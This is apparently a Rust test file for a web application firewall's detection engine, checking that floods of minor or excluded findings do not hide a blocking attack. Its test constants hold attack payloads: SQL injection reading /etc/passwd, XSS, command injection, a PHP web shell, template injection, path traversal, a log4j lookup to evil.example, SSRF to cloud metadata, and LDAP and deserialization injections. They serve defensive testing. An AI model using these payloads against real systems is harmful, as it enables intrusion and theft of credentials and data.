//! A flood of lesser findings, or of findings that do not count, does not push out the one that decides.

use std::fmt::Write as _;
use std::sync::{Arc, LazyLock};

use portcullis_semantic::detectors::protocol::{self, WORK_LIMIT};
use portcullis_semantic::{Analysis, Class, Detectors, Level, Location, Memo, Place, Triage, limits};

static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);

/// One value of each class that blocks by itself as a parameter.
const ATTACKS: &[(&str, &str)] = &[
    ("sqli", "1' union select user,password from users-- -"),
    ("xss", "<svg onload=alert(1)>"),
    ("command", ";cat /etc/passwd"),
    ("code", "<?php system($_GET['c']);?>"),
    ("template", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("path", "../../../../etc/passwd"),
    ("log4j", "${jndi:ldap://evil.example/a}"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("deserialization", "O:8:\"Evil\\Obj\":1:{s:1:\"a\";s:2:\"id\";}"),
];

/// Values in which a little is found, of many classes.
const CHEAP: &[&str] =
    &["*)(x", "1 or 2", "{{7*7}}", "../a", "$(x)", "a' b", "<b>", "http://localhost/", "`id`", "; ls"];

fn query(values: impl Iterator<Item = String>) -> String {
    let mut target = "/?".to_owned();
    for (number, value) in values.enumerate() {
        let value: String = value.bytes().fold(String::new(), |mut text, byte| {
            let _ = write!(text, "%{byte:02x}");
            text
        });
        let _ = write!(target, "p{number}={value}&");
    }
    target
}

fn blocked_classes(analysis: &Analysis) -> Vec<&'static str> {
    let over = analysis.scores(&DETECTORS).filter(|score| score.blocks(Level::Balanced));
    over.map(|score| score.class.name()).collect()
}

#[test]
fn floods_of_lesser_findings() {
    let memo = Memo::default();
    for cheap in CHEAP {
        for (class, attack) in ATTACKS {
            let flood = std::iter::repeat_n((*cheap).to_owned(), 400);
            let target = query(flood.chain([(*attack).to_owned()]));
            let mut analysis = Analysis::new();
            analysis.request_head(&DETECTORS, b"GET", target.as_bytes(), std::iter::empty());
            assert!(blocked_classes(&analysis).contains(class), "{class} after many `{cheap}`");
            assert!(analysis.findings().len() < 2_000, "{}", analysis.findings().len());
            // Header fields, twice, so that the second look remembers them; no more than the allowance
            // of work suffices for.
            for _ in 0..3 {
                let fields = (0..200).map(|_| (&b"x-a"[..], cheap.as_bytes()));
                let mut analysis = Analysis::sharing(&memo);
                let last = [(&b"x-b"[..], attack.as_bytes())];
                analysis.request_head(&DETECTORS, b"GET", b"/", fields.chain(last));
                assert!(blocked_classes(&analysis).contains(class), "{class} after fields `{cheap}`");
            }
        }
    }
}

#[test]
fn what_was_not_kept_is_counted() {
    let target = query(std::iter::repeat_n("*)(x".to_owned(), 1_000));
    let mut analysis = Analysis::new();
    analysis.request_head(&DETECTORS, b"GET", target.as_bytes(), std::iter::empty());
    let kept = analysis.findings().len();
    assert!(analysis.findings_dropped() > 0 && kept <= 2 * limits::FINDINGS_MAX, "{kept}");
    assert!(analysis.findings().iter().all(|found| (found.value as usize) < analysis.values().len()));
    assert!(analysis.findings().is_sorted_by_key(|found| found.value));
}

/// The work limit is a finding like others; neither those before nor those after push it out.
#[test]
fn the_work_limit_gets_through() {
    let mut analysis = Analysis::new();
    let location = Location::new(Place::Query, b"q");
    let flood = |analysis: &mut Analysis| {
        for number in 0..400 {
            let text = CHEAP[number % CHEAP.len()];
            analysis.value(&DETECTORS, location, text.as_bytes());
        }
    };
    flood(&mut analysis);
    analysis.note(&DETECTORS, location, protocol::KINDS, WORK_LIMIT, b"text");
    flood(&mut analysis);
    assert!(analysis.findings_dropped() > 0);
    let worst = analysis.scores(&DETECTORS).find(|score| score.class == Class::Protocol);
    assert!(worst.is_some_and(|worst| worst.blocks(Level::Balanced)));
}

#[derive(Debug)]
struct Excluded;

impl Triage for Excluded {
    fn group(&self, _: Class, _: Place, name: &[u8]) -> u8 {
        u8::from(name.starts_with(b"free"))
    }
}

#[derive(Debug)]
struct WithoutUnion;

impl Triage for WithoutUnion {
    fn group(&self, _: Class, _: Place, _: &[u8]) -> u8 {
        0
    }

    fn excludes(&self, _: Class, kind: &str, _: Place, name: &[u8]) -> bool {
        kind.starts_with("sqli.") && kind != "sqli.tautology" && name == b"free"
    }
}

/// Findings of kinds that are excluded in a field count for nothing there, however many they are; those of
/// other kinds do, there and elsewhere.
#[test]
fn floods_of_excluded_kinds() {
    let excluded = "1' union select load_file('/etc/passwd'), sleep(5) from information_schema.tables-- -";
    let look = |values: &[(&str, &str)]| {
        let mut analysis = Analysis::new();
        analysis.triage_by(Arc::new(WithoutUnion));
        for (name, text) in values {
            let location = Location::new(Place::Form, name.as_bytes());
            analysis.value(&DETECTORS, location, text.as_bytes());
        }
        let scores: Vec<_> = analysis.scores(&DETECTORS).filter(|score| score.class == Class::Sqli).collect();
        scores.iter().any(|score| score.blocks(Level::Balanced))
    };
    assert!(!look(&[("free", excluded)]));
    assert!(look(&[("other", excluded)]));
    assert!(look(&[("free", "1' or 1=1-- -")]));
    let mut flood = vec![("free", excluded); 400];
    flood.insert(0, ("free", "1' or 1=1-- -"));
    assert!(look(&flood));
    flood.remove(0);
    assert!(!look(&flood));
    flood.push(("free", "1' or 1=1-- -"));
    assert!(look(&flood));
    let mut analysis = Analysis::new();
    analysis.triage_by(Arc::new(WithoutUnion));
    analysis.value(&DETECTORS, Location::new(Place::Form, b"free"), excluded.as_bytes());
    let score = analysis.scores(&DETECTORS).find(|score| score.class == Class::Sqli).unwrap();
    assert!(score.points < score.points + score.excluded && score.excluded > 4.0, "{score:?}");
}

/// Values that the site excludes, in which much more is found, push out none that counts.
#[test]
fn floods_of_excluded_values() {
    let attack = "1' or 1=1-- -";
    let worse = "1' union select load_file('/etc/passwd'), sleep(5) from information_schema.tables-- -";
    let mut analysis = Analysis::new();
    analysis.triage_by(Arc::new(Excluded));
    let mut look = |name: &str, text: &str| {
        let location = Location::new(Place::Form, name.as_bytes());
        analysis.value(&DETECTORS, location, text.as_bytes());
    };
    look("id", attack);
    for number in 0..400 {
        look(&format!("free{number}"), worse);
    }
    look("last", "x");
    let counts = analysis.scores(&DETECTORS).any(|score| {
        score.class == Class::Sqli
            && score.blocks(Level::Balanced)
            && &*analysis.values()[score.value as usize].name == b"id"
    });
    assert!(counts);
}
